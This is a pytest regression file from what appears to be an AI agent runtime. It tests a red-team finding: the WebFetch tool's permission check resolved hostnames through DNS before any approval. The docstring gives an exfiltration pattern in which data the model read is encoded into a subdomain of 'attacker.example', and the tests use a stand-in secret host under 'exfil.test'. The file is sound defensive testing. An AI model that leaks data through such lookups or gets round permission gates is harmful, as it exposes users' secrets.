"""Red team round 17 (web): WebFetch looked a name up before it was permitted.

WebFetch's own permission check resolved the URL's host to refuse private answers early. The
check runs before an ``ask`` or the final ``deny`` (docs/permissions.md: deny > ask > the
tool's check > mode > allow rules > ask), so a fetch that no rule allowed and no one approved
still sent the name to the resolver, and on to the DNS servers of whoever owns the domain:
``https://<anything the model read>.attacker.example/`` leaked it, however the call was
decided. The check now judges addresses without DNS (IP literals, ``localhost`` names, and the
port rule where no listed private host could take the port); a name is resolved when the
permitted call fetches it, where every answer is judged as before.

Through the real gate; the resolver is the seam (``socket.getaddrinfo``: DNS is outside the
machine), recording which names were asked.
"""

from __future__ import annotations

import socket
from pathlib import Path
from typing import Any

import anyio
import pytest

from shellrt.permissions import build_governance
from shellrt.protocol import ToolContext, ToolExecutionError
from shellrt.tools.web_fetch import WebFetchInput, WebFetchTool

SECRET_HOST = "s3cr3t-0123.exfil.test"


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Names given to the resolver; each answers a public address (the attacker's DNS would)."""
    names: list[str] = []
    real = socket.getaddrinfo

    def fake(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        name = host.decode() if isinstance(host, bytes) else host  # anyio passes IDNA bytes
        if isinstance(name, str) and name.endswith(".test"):
            names.append(name)
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("93.184.215.14", int(port or 0)))]
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", fake)
    return names


def _ctx(tmp_path: Path, web: dict[str, Any] | None = None) -> ToolContext:
    return ToolContext(
        session_id="s",
        session_dir=tmp_path,
        workspace=tmp_path,
        cwd=str(tmp_path),
        settings={"webFetch": {"timeoutSeconds": 2, **(web or {})}},
    )


@pytest.mark.parametrize("mode", ["default", "dontAsk", "plan"])
def test_an_unpermitted_fetch_sends_its_name_to_no_resolver(
    tmp_path: Path, asked: list[str], mode: str
) -> None:
    gov = build_governance(tmp_path, mode=mode, home=tmp_path / "home")
    tool = WebFetchTool()
    url = f"https://{SECRET_HOST}/x"
    decision = anyio.run(
        lambda: gov.gate.authorize(tool, tool.backfill(WebFetchInput(url=url)), _ctx(tmp_path))
    )
    assert decision.behavior != "allow", decision
    assert SECRET_HOST not in asked, f"the name went to the resolver before any permission: {asked}"


def test_a_denied_domain_is_not_resolved_either(tmp_path: Path, asked: list[str]) -> None:
    gov = build_governance(
        tmp_path, mode="bypassPermissions", deny=(f"WebFetch(domain:{SECRET_HOST})",), home=tmp_path / "home"
    )
    tool = WebFetchTool()
    url = f"https://{SECRET_HOST}/"
    decision = anyio.run(
        lambda: gov.gate.authorize(tool, tool.backfill(WebFetchInput(url=url)), _ctx(tmp_path))
    )
    assert decision.behavior == "deny" and SECRET_HOST not in asked, (decision, asked)


def test_what_the_check_judged_by_dns_is_still_refused_when_fetched(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A permitted name answering a private address: refused by the call, before any connection."""
    real = socket.getaddrinfo

    def private(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        if host in ("intranet.test", b"intranet.test"):
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("10.1.2.3", int(port or 0)))]
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", private)
    tool, ctx = WebFetchTool(), _ctx(tmp_path)
    verdict = anyio.run(tool.check_permissions, WebFetchInput(url="http://intranet.test/"), ctx)
    assert verdict.behavior == "passthrough", verdict
    with pytest.raises(ToolExecutionError, match="non-public"):
        anyio.run(tool.call, WebFetchInput(url="http://intranet.test/"), ctx)
    # Judged without DNS, as before: literals, localhost, and a port no listed host could take.
    for url in ("http://10.0.0.1/", "http://localhost:1/", "http://a.localhost/", "http://intranet.test:22/"):
        assert anyio.run(tool.check_permissions, WebFetchInput(url=url), ctx).behavior == "deny", url
